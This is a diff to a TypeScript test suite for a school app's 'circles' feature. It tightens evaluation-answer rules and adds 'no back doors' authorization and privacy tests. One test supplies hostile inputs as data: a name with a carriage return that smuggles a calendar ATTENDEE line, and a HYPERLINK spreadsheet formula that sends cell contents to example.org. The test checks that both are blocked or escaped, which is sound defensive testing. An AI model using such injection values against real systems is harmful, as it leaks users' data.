@@ -6,7 +6,8 @@ import { after, before, describe, it } from 'node:test'
 import { sql } from 'kysely'
 import { translator } from '../src/core/i18n/index.ts'
 import { addDays, schoolDate } from '../src/core/time.ts'
-import { sendReminders } from '../src/features/circles/service.ts'
+import { forgetStaleTopics, sendReminders } from '../src/features/circles/service.ts'
+import { listOutbox } from '../src/features/outbox/routes.tsx'
 import { type Client, type TestApp, testApp, visibleText } from './helpers.ts'
 
 let t: TestApp
@@ -478,29 +479,37 @@ describe('evaluation', () => {
       const c = await as(m.email)
       const page = await c.get(`/circles/${id}`)
       assert.match(page.text, /Hoe was de kring voor u/)
-      const res = await c.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, {
-        memberId: m.id,
-        ...scores,
-      })
+      const res = await c.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, scores)
       assert.equal(res.status, 303)
-      const twice = await c.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, {
-        memberId: m.id,
-        ...scores,
-      })
-      assert.equal(twice.status, 400, 'one answer per place')
+      const twice = await c.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, scores)
+      assert.equal(twice.status, 400, 'one answer per person')
       assert.match(twice.text, /al ingevuld/)
     }
-    // Nobody can answer for someone else's place.
-    const last = members[4] as { id: string; email: string }
-    const intruder = await as((members[0] as { email: string }).email)
+    // Who may answer was fixed at opening: a place confirmed afterwards does not count, so
+    // nobody can add answers of their own to a running evaluation.
+    const late = await freshParent(5)
+    const lateClient = await as(late.email)
+    await lateClient.post(`/circles/${id}/join`, { for: 'self' })
+    const lateRow = await t.deps.db
+      .selectFrom('circle_members')
+      .select('id')
+      .where('circle_id', '=', id)
+      .where('person_id', '=', late.id)
+      .executeTakeFirstOrThrow()
     assert.equal(
-      (
-        await intruder.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, {
-          memberId: last.id,
-          ...scores,
-        })
-      ).status,
+      (await ib.post(`/circles/${id}/members/${lateRow.id}/decide`, { decision: 'confirm' }))
+        .status,
+      303,
+    )
+    assert.doesNotMatch((await lateClient.get(`/circles/${id}`)).text, /Hoe was de kring voor u/)
+    assert.equal(
+      (await lateClient.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, scores)).status,
       404,
+    )
+    // The facilitator is not asked either.
+    assert.equal(
+      (await ib.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, scores)).status,
+      403,
     )
     // Four answers, closed: hidden.
     assert.equal((await ib.post(`/circles/${id}/evaluations/${evaluation.id}/close`)).status, 303)
@@ -517,7 +526,7 @@ describe('evaluation', () => {
       .executeTakeFirstOrThrow()
     for (const m of members) {
       const c = await as(m.email)
-      await c.post(`/circles/${id}/evaluations/${second.id}/answer`, { memberId: m.id, ...scores })
+      await c.post(`/circles/${id}/evaluations/${second.id}/answer`, scores)
     }
     page = visibleText((await ib.get(`/circles/${id}`)).text)
     assert.match(page, /5 antwoorden/, 'still running: no figures yet')
@@ -866,5 +875,231 @@ describe('set-up and overview', () => {
     const d = await personas('director')
     const own = visibleText((await d.get('/circles/overview')).text)
     assert.doesNotMatch(own, /IKC De Vlinderboom/)
+  })
+})
+
+describe('no back doors', () => {
+  it('a host cannot make themselves a facilitator; every change of facilitators is on record', async () => {
+    const d = await personas('director')
+    const me = idOf('person:persona:director')
+    const self = await d.post('/circles/facilitators', {
+      personId: me,
+      training: 'Zelf',
+      trainedOn: '2026-01-01',
+    })
+    assert.equal(self.status, 400)
+    assert.match(self.text, /twee mensen/)
+    const id = idOf('circle:puberkring')
+    const facilitator = idOf('person:persona:facilitator')
+    const brug = idOf('person:persona:brugfiguur')
+    const selfAdd = await d.post(`/circles/${id}/settings`, {
+      capacity: '8',
+      status: 'open',
+      facilitators: me,
+    })
+    assert.equal(selfAdd.status, 400)
+    const body = new URLSearchParams([
+      ['_csrf', d.csrf],
+      ['capacity', '8'],
+      ['status', 'open'],
+      ['facilitators', facilitator],
+      ['facilitators', brug],
+    ])
+    const ok = await d.request(`/circles/${id}/settings`, {
+      method: 'POST',
+      body,
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    })
+    assert.equal(ok.status, 303)
+    const entry = await t.deps.db
+      .selectFrom('audit_log')
+      .select('detail')
+      .where('action', '=', 'circle.settings')
+      .where('subject_id', '=', id)
+      .orderBy('at', 'desc')
+      .executeTakeFirstOrThrow()
+    assert.equal(entry.detail.added, brug)
+  })
+
+  it('a convener who leaves no longer runs the circle', async () => {
+    const id = idOf('circle:jongerenkring')
+    const f = await personas('brugfiguur')
+    const page = await f.get(`/circles/${id}`)
+    const convener = page.text.match(/<option value="([0-9a-f-]{36})"[^>]*>/)?.[1]
+    assert.ok(convener)
+    assert.equal(
+      (await f.post(`/circles/${id}/autonomy`, { autonomous: 'yes', convenerId: convener })).status,
+      303,
+    )
+    const email = await t.deps.db
+      .selectFrom('people')
+      .select('email')
+      .where('id', '=', convener)
+      .executeTakeFirstOrThrow()
+    const c = await as(email.email)
+    const meeting = await t.deps.db
+      .selectFrom('circle_meetings')
+      .select('id')
+      .where('circle_id', '=', id)
+      .where('status', '=', 'planned')
+      .orderBy('starts_at')
+      .executeTakeFirstOrThrow()
+    assert.equal((await c.get(`/circles/${id}/meetings/${meeting.id}`)).status, 200)
+    // A convener may not hand the circle on: that is the facilitator's call.
+    assert.equal((await c.post(`/circles/${id}/autonomy`, { autonomous: 'no' })).status, 403)
+    const place = await t.deps.db
+      .selectFrom('circle_members')
+      .select('id')
+      .where('circle_id', '=', id)
+      .where('person_id', '=', convener)
+      .executeTakeFirstOrThrow()
+    assert.equal((await c.post(`/circles/${id}/leave`, { memberId: place.id })).status, 303)
+    assert.equal((await c.get(`/circles/${id}/meetings/${meeting.id}`)).status, 403)
+    assert.equal((await c.get(`/circles/${id}`)).status, 403)
+    const circle = await t.deps.db
+      .selectFrom('circles')
+      .select(['autonomous', 'convener_id'])
+      .where('id', '=', id)
+      .executeTakeFirstOrThrow()
+    assert.deepEqual(circle, { autonomous: false, convener_id: null })
+  })
+
+  it('topics only for the coming meeting, and forgotten hours after a meeting nobody closed', async () => {
+    const id = idOf('circle:leerkrachtkring')
+    const member = await t.deps.db
+      .selectFrom('circle_members as cm')
+      .innerJoin('people as p', 'p.id', 'cm.person_id')
+      .select('p.email')
+      .where('cm.circle_id', '=', id)
+      .where('cm.status', '=', 'confirmed')
+      .executeTakeFirstOrThrow()
+    const c = await as(member.email)
+    const planned = await t.deps.db
+      .selectFrom('circle_meetings')
+      .select(['id', 'ends_at'])
+      .where('circle_id', '=', id)
+      .where('status', '=', 'planned')
+      .orderBy('starts_at')
+      .execute()
+    const [next, later] = planned
+    assert.ok(next && later)
+    const far = await c.post(`/circles/${id}/meetings/${later.id}/topics`, { topic: 'Vooruit' })
+    assert.equal(far.status, 400)
+    assert.equal(
+      (await c.post(`/circles/${id}/meetings/${next.id}/topics`, { topic: 'Werkdruk' })).status,
+      303,
+    )
+    // The meeting passes and nobody closes it: six hours later the topics are gone.
+    assert.equal(
+      await forgetStaleTopics(t.deps.db, new Date(next.ends_at.getTime() + 3_600_000)),
+      0,
+    )
+    const forgotten = await forgetStaleTopics(
+      t.deps.db,
+      new Date(next.ends_at.getTime() + 7 * 3_600_000),
+    )
+    assert.ok(forgotten >= 1)
+    const left = await t.deps.db
+      .selectFrom('circle_topics')
+      .select('id')
+      .where('meeting_id', '=', next.id)
+      .execute()
+    assert.equal(left.length, 0)
+  })
+
+  it('one place per child, whichever guardian asks', async () => {
+    const id = idOf('circle:kinderkring')
+    const child = await t.deps.db
+      .selectFrom('circle_members as cm')
+      .innerJoin('guardianships as g', 'g.child_id', 'cm.child_id')
+      .select(['cm.child_id', 'g.person_id'])
+      .where('cm.circle_id', '=', id)
+      .where('cm.status', '=', 'confirmed')
+      .whereRef('g.person_id', '!=', 'cm.person_id')
+      .executeTakeFirstOrThrow()
+    const other = await t.deps.db
+      .selectFrom('people')
+      .select('email')
+      .where('id', '=', child.person_id)
+      .executeTakeFirstOrThrow()
+    const c = await as(other.email)
+    await c.post(`/circles/${id}/join`, { for: child.child_id as string, consent: 'yes' })
+    const places = await t.deps.db
+      .selectFrom('circle_members')
+      .select('id')
+      .where('circle_id', '=', id)
+      .where('child_id', '=', child.child_id)
+      .execute()
+    assert.equal(places.length, 1)
+  })
+
+  it('no control characters in names, and no formulas in the CSV', async () => {
+    const d = await personas('director')
+    const fields = {
+      kind: 'eigen',
+      place: 'Lokaal 2',
+      capacity: '8',
+      languages: 'nl',
+      firstDate: '2027-05-04',
+      time: '15:00',
+      duration: '60',
+      recurrence: 'weekly',
+      count: '2',
+    }
+    const bad = await d.post('/circles', {
+      ...fields,
+      name: 'Kring\rATTENDEE:mailto:x@example.org',
+      kindLabel: 'Test',
+    })
+    assert.equal(bad.status, 400)
+    const ok = await d.post('/circles', {
+      ...fields,
+      name: 'Formulekring',
+      kindLabel: '=HYPERLINK("http://example.org/?"&A1,"x")',
+    })
+    assert.equal(ok.status, 303)
+    const csv = (await d.get('/circles/overview.csv')).text
+    assert.ok(csv.includes(`"'=HYPERLINK(`), 'the formula is escaped as text')
+  })
+
+  it('a facilitator who leaves the school loses the circle', async () => {
+    const d = await personas('director')
+    const teacher = await t.deps.db
+      .selectFrom('people')
+      .select(['id', 'email'])
+      .where('id', '=', idOf('person:regenboog:Groep 3:teacher'))
+      .executeTakeFirstOrThrow()
+    await d.post('/circles/facilitators', {
+      personId: teacher.id,
+      training: 'Basistraining',
+      trainedOn: '2026-02-01',
+    })
+    const id = idOf('circle:mantelzorgkring')
+    await d.post(`/circles/${id}/settings`, {
+      capacity: '8',
+      status: 'open',
+      facilitators: teacher.id,
+    })
+    const c = await as(teacher.email)
+    assert.equal((await c.get(`/circles/${id}`)).status, 200)
+    await t.deps.db.deleteFrom('memberships').where('person_id', '=', teacher.id).execute()
+    const after = t.client()
+    await after.signInByEmail(t.deps.db, teacher.email)
+    assert.equal((await after.get(`/circles/${id}`)).status, 403)
+  })
+
+  it("an admin's outbox leaves out mail that tells who is in a circle", async () => {
+    const school = idOf('school:regenboog')
+    const all = await t.deps.db
+      .selectFrom('outbox')
+      .select((eb) => eb.fn.countAll<string>().as('n'))
+      .where('confidential', '=', true)
+      .executeTakeFirstOrThrow()
+    assert.ok(Number(all.n) > 0, 'circle mails were sent')
+    const shown = await listOutbox(t.deps.db, school, 10_000)
+    assert.equal(
+      shown.some((m) => /kring|Nieuwe aanmelding|Morgen:/i.test(m.subject)),
+      false,
+    )
   })
 })
